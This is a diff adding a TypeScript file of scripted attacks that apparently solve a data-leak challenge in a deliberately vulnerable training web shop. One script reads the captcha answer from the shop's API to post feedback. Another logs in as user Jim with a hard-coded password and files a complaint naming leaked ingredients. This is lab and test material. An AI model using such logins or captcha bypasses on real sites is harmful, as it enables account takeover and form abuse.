@@ -1,0 +1,38 @@
+import type { Attack, Tools } from '#lab'
+
+interface Captcha {
+  captchaId: number
+  answer: string
+}
+
+/** Tells the shop something by way of its feedback form. */
+async function tell({ http, expect }: Tools, words: string): Promise<void> {
+  const { captchaId, answer } = (await http.get('/rest/captcha/')).json<Captcha & Record<string, unknown>>()
+  const comment = `${words} (anonymous)`
+  const sent = await http.post('/api/Feedbacks/', { captchaId, captcha: answer, comment, rating: 3 })
+  expect(sent.status === 201, `the feedback was answered with ${sent.status}`)
+}
+
+/** Tells the shop something by way of a complaint: Jim's. */
+async function complain({ http, expect, settings }: Tools, message: string): Promise<void> {
+  const login = await http.post('/rest/user/login', { email: `jim@${settings.domain}`, password: 'ncc-1701' })
+  expect(login.status === 200, `the login answered with ${login.status}`)
+  const { token } = login.json<{ authentication: { token: string } }>().authentication
+  const sent = await http.post('/api/Complaints/', { message }, { token })
+  expect(sent.status === 201, `the complaint was answered with ${sent.status}`)
+}
+
+const CHALLENGE = 'dlpPastebinDataLeakChallenge'
+
+export const attacks: Attack[] = [
+  {
+    challenge: CHALLENGE,
+    name: 'a feedback with both names',
+    run: (tools) => tell(tools, 'hueteroneel,eurogium edule'),
+  },
+  {
+    challenge: CHALLENGE,
+    name: 'a complaint in whole sentences',
+    run: (tools) => complain(tools, 'Never mix Hueteroneel with Eurogium Edule!'),
+  },
+]
